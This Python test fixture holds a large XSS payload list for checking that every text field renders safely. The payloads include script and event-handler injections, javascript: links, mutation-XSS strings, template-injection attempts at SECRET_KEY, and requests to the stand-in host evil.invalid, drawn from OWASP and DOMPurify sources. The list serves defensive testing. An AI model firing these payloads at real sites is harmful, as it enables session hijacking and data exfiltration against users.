"""What must not run, load or take over when it is shown: one list for every field of every page.

Each calls `__xss()` where it runs, or asks `evil.invalid` for something where it loads. Sources:
the OWASP filter evasion cheat sheet, DOMPurify's tests (mutation XSS), markdown renderers' issues.
"""

EVIL = "http://evil.invalid"

SCRIPTS = [
    "<script>__xss()</script>",
    "<ScRiPt>__xss()</sCrIpT>",
    "<script/x>__xss()</script >",
    f"<script src={EVIL}/1.js></script>",
    "<script src=//evil.invalid/2.js async></script>",
    "<script>__xss()//",
    "<<script>__xss();//<</script>",
    "</textarea><script>__xss()</script>",
    "</title><script>__xss()</script>",
    "--><script>__xss()</script>",
    "]]><script>__xss()</script>",
    "\"'><script>__xss()</script>",
    "<scr<script>ipt>__xss()</scr</script>ipt>",
    "<script type=module>__xss()</script>",
    "&lt;script&gt;__xss()&lt;/script&gt;",
]
HANDLERS = [
    "<img src=x onerror=__xss()>",
    "<img src=x: onerror\n=\n__xss()>",
    "<img/src=x/onerror=__xss()>",
    '<img src="x" onerror="&#95;&#95;xss()">',
    "<body onload=__xss()>",
    "<input autofocus onfocus=__xss()>",
    "<select autofocus onfocus=__xss()>",
    "<details open ontoggle=__xss()><summary>x</summary></details>",
    "<video><source onerror=__xss()></video>",
    "<audio src=x onerror=__xss()>",
    "<marquee onstart=__xss()>x</marquee>",
    "<div onmouseover=__xss() onpointerenter=__xss() class=btn>hover</div>",
    "<p style=animation-name:spin onanimationstart=__xss()>x</p>",
    '" autofocus onfocus="__xss()" x="',
    "' autofocus onfocus='__xss()' x='",
    "` onmouseover=__xss() `",
]
ADDRESSES = [
    "[click](javascript:__xss())",
    "[click](JaVaScRiPt:__xss())",
    "[click](java\tscript:__xss())",
    "[click](java&#10;script:__xss())",
    "[click](javascript&colon;__xss())",
    "[click](&#x6A;avascript:__xss())",
    "[click](\x01javascript:__xss())",
    "[click](<javascript:__xss()>)",
    "[click](data:text/html,<script>__xss()</script>)",
    "[click](data:text/html;base64,PHNjcmlwdD5fX3hzcygpPC9zY3JpcHQ+)",
    "[click](vbscript:__xss())",
    "[click][r]\n\n[r]: javascript:__xss()",
    "<javascript:__xss()>",
    '[click](https://example.org "\\" onclick=\\"__xss()")',
    "[click](https://example.org/'onmouseover='__xss())",
    "<a href=javascript:__xss()>click</a>",
    "<a href=' javascript:__xss()'>click</a>",
    "<a href=https://example.org target=_top onclick=__xss()>click</a>",
    "[click](file:///etc/passwd)",
    "[click](//evil.invalid/path)",
]
LOADING = [
    f"![x]({EVIL}/leak.png)",
    f"![x][i]\n\n[i]: {EVIL}/leak2.png",
    f'![x]({EVIL}/a.png "t" onerror="__xss()")',
    f"<img src={EVIL}/3.png>",
    f"<img srcset='{EVIL}/4.png 1x'>",
    f"<picture><source srcset={EVIL}/5.png><img></picture>",
    f"<link rel=stylesheet href={EVIL}/6.css>",
    f"<link rel=prefetch href={EVIL}/7><link rel=dns-prefetch href={EVIL}>",
    f"<style>@import '{EVIL}/8.css'; body {{ background: url({EVIL}/9.png) }}</style>",
    f"<div style='background:url({EVIL}/10.png)'>x</div>",
    "<div style='width:expression(__xss())'>x</div>",
    f"<video poster={EVIL}/11.png src={EVIL}/12.mp4></video>",
    f"<object data={EVIL}/13.swf></object><embed src={EVIL}/14>",
    f"<iframe src={EVIL}/15></iframe>",
    "<iframe srcdoc='<script>parent.__xss()</script>'></iframe>",
    "<iframe src=javascript:parent.__xss()></iframe>",
    f"<base href={EVIL}/>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/16'>",
    f"<form action={EVIL}/17 id=composer><button autofocus>Send</button></form>",
    f"<button formaction={EVIL}/18>Send</button>",
    f"<body background={EVIL}/19.png><table background={EVIL}/20.png>",
]
FOREIGN = [
    "<svg onload=__xss()>",
    "<svg><script>__xss()</script></svg>",
    "<svg><animate onbegin=__xss() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:__xss()><text y=20>x</text></a></svg>",
    f"<svg><image href={EVIL}/21.png /><use href={EVIL}/22.svg#x /></svg>",
    "<svg><foreignObject><img src=x onerror=__xss()></foreignObject></svg>",
    "<math><mtext><script>__xss()</script></mtext></math>",
    "<math href=javascript:__xss()>x</math>",
]
MUTATIONS = [
    "<noscript><p title='</noscript><img src=x onerror=__xss()>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img onerror=__xss()>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=__xss()>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xss()>",
    "<template><img src=x onerror=__xss()></template>",
    "<xmp><p title='</xmp><img src=x onerror=__xss()>'>",
    "<!--><img src=x onerror=__xss()>-->",
    "<![CDATA[<img src=x onerror=__xss()>]]>",
    "<?xml ?><img src=x onerror=__xss()>",
    "<img src=x onerror=__xss() //\u0000>".replace("\u0000", ""),
]
MARKDOWN = [
    "```<img src=x onerror=__xss()>\ncode\n```",
    '```js" onmouseover="__xss()\ncode\n```',
    "```html\n<script>__xss()</script>\n```",
    "~~~\n</code></pre><script>__xss()</script>\n~~~",
    "`<img src=x onerror=__xss()>`",
    "| a |\n|---|\n| <img src=x onerror=__xss()> |",
    "# <svg onload=__xss()>",
    "> <script>__xss()</script>",
    '<https://example.org/"onmouseover=__xss()>',
    "[a](https://example.org '\"><img src=x onerror=__xss()>')",
    "**<b onclick=__xss()>x**",
    "$$\\href{javascript:__xss()}{x}$$",
]
ATTRIBUTES = [
    "<button hx-get=/accounts/logout/ hx-trigger=load>x</button>",
    "<div hx-on:click=__xss() hx-on--load=__xss() hx-trigger=load>x</div>",
    "<div data-hx-get=/console/ data-hx-trigger=load hx-vals='js:{a:__xss()}'>x</div>",
    "<div data-bs-toggle=tooltip data-bs-html=true title='<img src=x onerror=__xss()>'>x</div>",
    "<button data-bs-toggle=modal data-bs-target='<img src=x onerror=__xss()>'>x</button>",
    "<button data-copy=stolen data-copy-from=body>Copy</button>",
    "<div id=composer></div><div id=messages-list></div><img name=getElementById>",
    "<form id=x><input name=attributes><input name=parentNode></form>",
    "<a id=__xss></a><a id=__xss name=y href=x>x</a>",
    "<div class='modal fade show d-block position-fixed'>over everything</div>",
]
TEMPLATES = [
    "{{ 7|add:7 }}{% debug %}{{ settings.SECRET_KEY }}",
    "{% load static %}{% csrf_token %}",
    "${__xss()}#{__xss()}<%= __xss() %>",
    "{{constructor.constructor('__xss()')()}}",
]
LETTERS = [
    "\u202e<script>__xss()</script>\u202c",
    "＜script＞__xss()＜/script＞",
    "<ſcript>__xss()</ſcript>",
    "\ufeff<script>__xss()</script>",
    "<img src=x onerror=\u2028__xss()>",
    "%3Cscript%3E__xss()%3C/script%3E",
    "\\u003cscript\\u003e__xss()\\u003c/script\\u003e",
    'data: <script>__xss()</script>\n\nevent: done\ndata: {"html": "<img src=x onerror=__xss()>"}',
]

PAYLOADS = [
    *SCRIPTS,
    *HANDLERS,
    *ADDRESSES,
    *LOADING,
    *FOREIGN,
    *MUTATIONS,
    *MARKDOWN,
    *ATTRIBUTES,
    *TEMPLATES,
    *LETTERS,
]


def fitting(length: int) -> list[str]:
    """The payloads, as many as fit into a field of that length at once, a text after the other."""
    texts, text = [], ""
    for payload in (one for one in PAYLOADS if len(one) <= length):
        joined = f"{text}\n\n{payload}" if text else payload
        if len(joined) > length:
            texts.append(text)
            joined = payload
        text = joined
    return [*texts, text]


def short(length: int) -> list[str]:
    """Those that fit into a field of that length by themselves."""
    return [payload for payload in PAYLOADS if len(payload) <= length]
